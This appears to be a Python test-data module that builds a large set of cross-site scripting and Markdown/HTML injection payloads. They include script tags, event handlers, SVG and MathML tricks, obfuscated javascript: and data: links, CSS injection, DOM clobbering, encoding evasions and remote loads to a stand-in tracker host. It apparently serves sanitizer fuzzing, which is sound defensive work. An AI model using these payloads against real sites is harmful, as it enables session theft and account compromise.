"""Comments that try to run something, load something or break out, by family; our own wording.

Families are built from parts (elements, events, disguises, ways to write a link) and then wrapped
in Markdown, so that what was thought of meets what was not. Whatever runs calls `ran()`; whatever
loads asks a host below `tracker.example`.
"""

import random
from collections.abc import Callable, Iterator
from itertools import cycle, product
from typing import Final

RUN: Final = "ran()"
AWAY: Final = "https://tracker.example"

ELEMENTS: Final = (
    "img video audio body input select textarea details marquee iframe object embed button a div p"
    " b code blockquote li keygen bgsound isindex custom-element"
).split()
EVENTS: Final = (
    "onload onerror onclick onmouseover onfocus onblur ontoggle onstart onbegin onanimationstart"
    " onpointerenter onbeforeinput onscroll onwheel oncopy onauxclick ontransitionend"
).split()


def split_by(sign: str) -> Callable[[str], str]:
    return lambda scheme: sign.join((scheme[:4], scheme[4:]))


DISGUISES: Final[tuple[Callable[[str], str], ...]] = (
    lambda scheme: scheme,
    str.upper,
    lambda scheme: "".join(map(str.upper, scheme[::2])) + scheme[1::2],
    lambda scheme: "".join(c.upper() if at % 2 else c for at, c in enumerate(scheme)),
    lambda scheme: " " + scheme,
    lambda scheme: "\x01\x02" + scheme,
    lambda scheme: "\u00a0\u2003\ufeff" + scheme,
    split_by("\t"),
    split_by("\n"),
    split_by("\r\n"),
    split_by("\x00"),
    split_by("\u200b"),
    split_by("\u00ad"),
    split_by("&Tab;"),
    split_by("&NewLine;"),
    split_by("&#10;"),
    split_by("&#0000009"),
    split_by("%0a"),
    split_by("\\"),
    lambda scheme: "".join(f"&#{ord(c)};" for c in scheme),
    lambda scheme: "".join(f"&#x{ord(c):x};" for c in scheme),
    lambda scheme: "".join(f"&#{ord(c):07}" for c in scheme),
    lambda scheme: "".join(f"%{ord(c):02x}" for c in scheme),
    lambda scheme: "".join(chr(ord(c) + 0xFEE0) for c in scheme),
    lambda scheme: scheme.replace("s", "ſ").replace("i", "ı"),
    lambda scheme: f"feed:{scheme}",
    lambda scheme: f"view-source:{scheme}",
    lambda scheme: f"https://a.example/#{scheme}",
    lambda scheme: f"//{scheme}",
)
SCHEMES: Final = (
    f"javascript:{RUN}",
    f"javascript://a.example/%0a{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={RUN}>",
    f"jar:javascript:{RUN}!/",
    "file:///etc/hosts",
    "blob:https://a.example/1",
)
LINKS: Final = (
    "[words]({})",
    "[words](<{}>)",
    '[words]({} "title")',
    "[words][id]\n\n[id]: {}",
    "[words]\n\n[words]: <{}> 'title'",
    "![words]({})",
    "[![words]({0})]({0})",
    "<{}>",
    "{}",
    '<a href="{}">words</a>',
    "<a href={}>words</a>",
    "<a href=`{}`>words</a>",
    "<a\x0chref\x0b='{}'>words</a>",
    '<svg><a xlink:href="{}"><text y="1em">words</text></a></svg>',
    '<math href="{}">words</math>',
    '<iframe src="{}"></iframe>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<form action="{0}"><button formaction="{0}">words</button></form>',
    '<base href="{}">',
    '<meta http-equiv="refresh" content="0;url={}">',
    '<link rel="stylesheet" href="{}">',
    '<area href="{}">',
    '<table background="{}"><td>words</td></table>',
)


def scripts() -> Iterator[str]:
    for tag in ("script", "SCRIPT", "ScRiPt", "script/", "script\t", "script\x00", "script x='>'"):
        yield f"<{tag}>{RUN}</script>"
        yield f"<{tag} src={AWAY}/s.js></script>"
    yield f"<scr<script>ipt>{RUN}</scr</script>ipt>"
    yield f"<script>{RUN}"
    yield f"<<script>{RUN}//<</script>"
    yield f"<script\n>{RUN}</script\n>"
    yield f"<script>/*</script><script>*/{RUN}</script>"
    yield f"<%00script>{RUN}</script>"
    yield f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e"
    yield f"<?xml?><script xmlns='http://www.w3.org/1999/xhtml'>{RUN}</script>"
    yield f"<!DOCTYPE x [<!ENTITY y '<script>{RUN}</script>'>]>&y;"
    yield f"<![CDATA[<script>{RUN}</script>]]>"


def handlers() -> Iterator[str]:
    quotes = ('"{}"', "'{}'", "{}", "&#34;{}&#34;", "`{}`")
    for element, event, quote in zip(cycle(ELEMENTS), EVENTS * 9, cycle(quotes)):
        value = quote.format(RUN)
        yield f"<{element} {event}={value} src=x autofocus open tabindex=0>words</{element}>"
        yield f"<{element}/{event}={value}/src=x>"
    yield f'<img src="x`" `<script>{RUN}</script>"` onerror={RUN}>'
    yield f"<a href='https://a.example/' {EVENTS[2]}\x0b=\x0b{RUN}>words</a>"
    yield f"<img\u2028src=x\u2028onerror={RUN}>"


def drawings() -> Iterator[str]:
    inner = (
        f"<script>{RUN}</script>",
        f"<animate onbegin={RUN} attributeName=x dur=1s>",
        f'<a><animate attributeName="href" values="javascript:{RUN}"/><text>words</text></a>',
        f'<set attributeName="onmouseover" to="{RUN}"/>',
        f"<foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></iframe></foreignObject>",
        f"<use href='data:image/svg+xml,<svg id=x><script>{RUN}</script></svg>#x'/>",
        f"<image href='{AWAY}/svg.png'/>",
        f"<style><img src=x onerror={RUN}></style>",
        f"<desc><img src=x onerror={RUN}></desc>",
        f"<maction actiontype='statusline#x' xlink:href='javascript:{RUN}'>words</maction>",
        f"<annotation-xml encoding='text/html'><img src=x onerror={RUN}></annotation-xml>",
        f"<mtext><mglyph><style><img src=x onerror={RUN}></style></mglyph></mtext>",
    )
    for outer, piece in product(("svg", "math", f"svg onload={RUN}", "SVG/"), inner):
        yield f"<{outer}>{piece}</{outer.split()[0].strip('/')}>"
        yield f"<{outer}>{piece}"


def mutations() -> Iterator[str]:
    raw = "style title textarea noscript xmp iframe noembed noframes template select option".split()
    around = ("", "<svg>", "<math><mtext>", "<form>", "<table>", "<svg><desc>", "<p>", "<b><i>")
    for element, before in product(raw, around):
        hidden = f'<img title="</{element}><img src=x onerror={RUN}>">'
        yield f"{before}<{element}>{hidden}</{element}>"
        yield f"{before}<{element}><!--</{element}><img src=x onerror={RUN}>-->"
        yield f'{before}<a id="</{element}><img src=x onerror={RUN}>">{hidden}</{element}>'
    yield f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>"
    yield f"<table><td><svg></table><style><a title='</style><img src=x onerror={RUN}>'>"
    yield f"<!--><img src=x onerror={RUN}>-->"
    yield f"<!--!><img src=x onerror={RUN}><!--!>"
    yield f"<!-- --!><img src=x onerror={RUN}> -->"
    yield f"<plaintext></plaintext><img src=x onerror={RUN}>"
    yield "<p>" * 600 + f"<img src=x onerror={RUN}>"
    yield "<b>" * 600 + f"<svg onload={RUN}>"


def schemes() -> Iterator[str]:
    for link, scheme, disguise in product(LINKS, SCHEMES, DISGUISES):
        yield link.format(disguise(scheme))


def styles() -> Iterator[str]:
    rules = (
        f"background:url({AWAY}/css.png)",
        f"background:url(javascript:{RUN})",
        f"width:expression({RUN})",
        f"behavior:url({AWAY}/x.htc)",
        f"-moz-binding:url({AWAY}/x.xml#x)",
        "position:fixed;inset:0;z-index:9999",
        "animation:spin 1s;display:none",
        f"\\62 ackground:u\\72l({AWAY}/css.png)",
    )
    for rule in rules:
        yield f"<style>*{{{rule}}}</style>"
        yield f'<p style="{rule}">words</p>'
        yield f"<span style='{rule}' class='link-host page-header'>words</span>"
        yield f"[words](https://a.example){{style='{rule}'}}"
    yield f"<style>@import '{AWAY}/x.css';</style>"
    yield f"<link rel=stylesheet href={AWAY}/x.css>"


def clobbering() -> Iterator[str]:
    names = "ran document body location cookie attributes parentNode forms getElementById".split()
    for name, element in product(names, ("img", "form", "input", "a", "iframe", "object", "embed")):
        yield f"<{element} id={name} name={name}>words</{element}>"
    for name in names:
        yield f"# words {{#{name}}}"
        yield f"[words](https://a.example){{#{name} name={name}}}"
        yield f"<form id={name}><input name={name}><input name=children></form>"


def link_tricks() -> Iterator[str]:
    breakers = (
        f'"onmouseover="{RUN}',
        f"'onmouseover='{RUN}",
        f'"><img src=x onerror={RUN}>',
        f"</a><script>{RUN}</script>",
        f"`onmouseover={RUN} x=`",
        f"&quot; onmouseover=&quot;{RUN}",
        f"&#34;&gt;&lt;script&gt;{RUN}&lt;/script&gt;",
        f'\\" onmouseover=\\"{RUN}',
        f"%22 onmouseover=%22{RUN}",
        f'\t"\nonmouseover\n=\n"{RUN}',
        "\\](javascript:ran())",
        '\u2028" onload=ran() "',
    )
    forms = (
        '[words](https://a.example "{}")',
        "[words](https://a.example '{}')",
        "[words](https://a.example ({}))",
        "[words](https://a.example/{})",
        "[words](<https://a.example/{}>)",
        "[{}](https://a.example)",
        "![{}](https://a.example/x.png)",
        '![words](https://tracker.example/x.png "{}")',
        "<https://a.example/{}>",
        "https://a.example/{}",
        "www.a.example/{}",
        "https://{}@a.example/",
        "https://a.example{}",
        "[words][{0}]\n\n[{0}]: https://a.example '{0}'",
        "```{}\ncode\n```",
        "`{}`",
        "[a[b](https://b.example)c{}](https://a.example)",
        "[![{0}](https://tracker.example/{0})](https://a.example '{0}')",
        "{}. words\n{}. words",
        "- [ ] {}",
        "[^{0}]: {0}",
        "| {} |\n|--|\n| {} |",
        "*{}*",
        "~~**_{}_**~~",
        "<https://a.example/`{}`>",
        '[words](https://a.example\n"{}\n\n{}")',
    )
    for form, breaker in product(forms, breakers):
        yield form.replace("{0}", breaker).replace("{}", breaker)


def encodings() -> Iterator[str]:
    markup = f"<img src=x onerror={RUN}>"
    yield "".join(f"&#{ord(c)};" for c in markup)
    yield "".join(f"&#x{ord(c):06X};" for c in markup)
    yield "".join(f"&#{ord(c)}" for c in markup)
    yield markup.replace("<", "&lt").replace(">", "&gt")
    yield markup.replace("<", "&amp;lt;").replace(">", "&amp;gt;")
    yield markup.replace("<", "&LT;").replace(">", "&GT;")
    yield "".join(f"%{ord(c):02X}" for c in markup)
    yield "".join(f"\\u{ord(c):04x}" for c in markup)
    yield "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in markup)
    yield "\x00".join(markup)
    yield "\u200d".join(markup)
    yield "\u0338".join(markup)
    yield markup.replace("<", "\u226a").replace(">", "\u226b")
    yield markup.replace("<", "<\u0338").replace(">", ">\u0338")
    yield markup.replace("<", "\\<").replace("=", "\\=")
    yield "+ADw-script+AD4-ran()+ADw-/script+AD4-"
    yield "\x1b$@" + markup + "\x1b(B"
    yield "\ud800" + markup + "\udfff"
    yield "\ufeff\ufffe" + markup
    yield f"\u202e{markup[::-1]}"


def loads() -> Iterator[str]:
    for (
        element
    ) in "img video audio source track input embed iframe frame script image bgsound".split():
        yield f"<{element} src='{AWAY}/{element}'>"
        yield f"<{element} srcset='{AWAY}/{element} 1x' poster={AWAY}/p lowsrc={AWAY}/l>"
    yield f"![words]({AWAY}/markdown.png)"
    yield f"![words][a]\n\n[a]: {AWAY}/reference.png"
    yield f"<object data={AWAY}/object><param name=movie value={AWAY}/param></object>"
    yield f"<link rel=preload as=image href={AWAY}/preload><link rel=dns-prefetch href={AWAY}>"
    yield f"<a href={AWAY} ping={AWAY}/ping download target=_blank>words</a>"
    yield f"<portal src={AWAY}/portal><fencedframe src={AWAY}/frame>"


FAMILIES: Final[tuple[Callable[[], Iterator[str]], ...]] = (
    scripts, handlers, drawings, mutations, schemes, styles, clobbering, link_tricks, encodings,
    loads,
)  # fmt: skip
WRAPPERS: Final = (
    "{}", "{}", "{}", "> {}", "- {}", "1. {}", "# {}", "**{}**", "_{}_", "~~{}~~", "`{}", "```\n{}",
    "[{}](https://a.example)", "<b>{}</b>", "<pre><code>{}", "<blockquote>{}", "<ul><li>{}",
    "<a href='https://a.example'>{}", "text {} text", "| {} |", "\\{}", "<!-- {}", "&lt;{}&gt;",
)  # fmt: skip


def hostile_comments(count: int, seed: int) -> list[str]:
    """That many comments, as many from each family, wrapped by chance; the same for one seed."""
    chance = random.Random(seed)
    families = [list(family()) for family in FAMILIES]
    for family in families:
        chance.shuffle(family)
    made = []
    for number in range(count):
        family = families[number % len(families)]
        payload = family[number // len(families) % len(family)]
        if chance.random() < 0.3:
            payload += chance.choice(chance.choice(families))
        made.append(chance.choice(WRAPPERS).replace("{}", payload))
    return made
